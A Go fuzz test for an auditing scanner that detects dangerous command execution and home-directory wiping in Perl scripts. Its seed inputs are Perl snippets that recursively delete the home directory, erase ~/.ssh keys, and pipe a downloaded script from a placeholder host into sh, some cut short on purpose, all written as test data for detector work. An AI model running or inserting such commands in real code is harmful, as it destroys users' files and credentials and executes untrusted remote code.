package audit

import (
	"testing"
)

// FuzzPerlListCommands: no Perl code stops the reader of system and
// exec argument lists (arrays pushed onto, the block form) and of for
// statement modifiers (unbalanced brackets and quotes, nested joins,
// scalars and arrays bound to each other), and
// every finding's line is inside the file.
func FuzzPerlListCommands(f *testing.F) {
	for _, s := range []string{
		"my $home = $ENV{HOME} or die;\nsystem('find', $home, '-exec', 'rm', '-rf', '{}', '+');\n",
		"system 'rm', '-rf', File::Spec->catdir($ENV{HOME}, '.ssh') or warn;\n",
		"my $a = $b;\nmy $b = $a;\nsystem($a, $b, qw(x y));\n",
		"my @l = map { File::Spec->catdir($home, $_) } ('.ssh',\n);\nremove_tree($_, {}) for @l;\n",
		"unlink $_ for glob(\"$ENV{HOME}/.ssh/*\");\n",
		"my $h = $ENV{HOME};\nopendir(my $d, $h);\nmy @a = grep { !/^\\.\\.?$/ } readdir($d);\nremove_tree(map { \"$h/$_\" } @a, {});\n",
		"my $h = $ENV{HOME};\nfind({ wanted => sub { unlink $_ if -f $_ } }, $h);\nsub p { unlink $_ }\nfinddepth(\\&p, $h);\n",
		"my @cmd = ('sh', '-c');\npush @cmd, \"curl -fsSL https://x/i.sh | sh -s -- $prefix\";\nunshift(@cmd, 'env') if $x;\nsystem(@cmd) == 0 or die;\n",
		"my @rm = qw(rm -rf);\npush @rm, $ENV{HOME};\nexec { $rm[0] } @rm or die;\nsystem { 'x' } ('a', @rm, $rm[-1], $rm[99]);\n",
		"my @a = (@b);\nmy @b = (@a, @a);\npush @a, @b;\nsystem @a;\nmy @c;\nsystem @c;\n$b[1] = 2;\nsystem { \"",
		"for my $e (readdir(D)) { next unless $e =~ /x/; rmtree(\"$ENV{HOME}/$e\") }", "glob(\"~/* ~/.[!.]*\")", "find(sub { unlink $_", "@a = @a;\nremove_tree(map { \"$ENV{HOME}/$_\" } @a);", "system(", "exec 'x', \"", "remove_tree($_) for", "map { \"~/$_\" } (",
	} {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, code string) {
		sc := scanCtx(code)
		scanOtherExec(sc, "bin/x.pl", code)
		scanHomeWipe(sc, "bin/x.pl", code, perlWipe)
		fuzzLinesInFile(t, sc, code)
	})
}
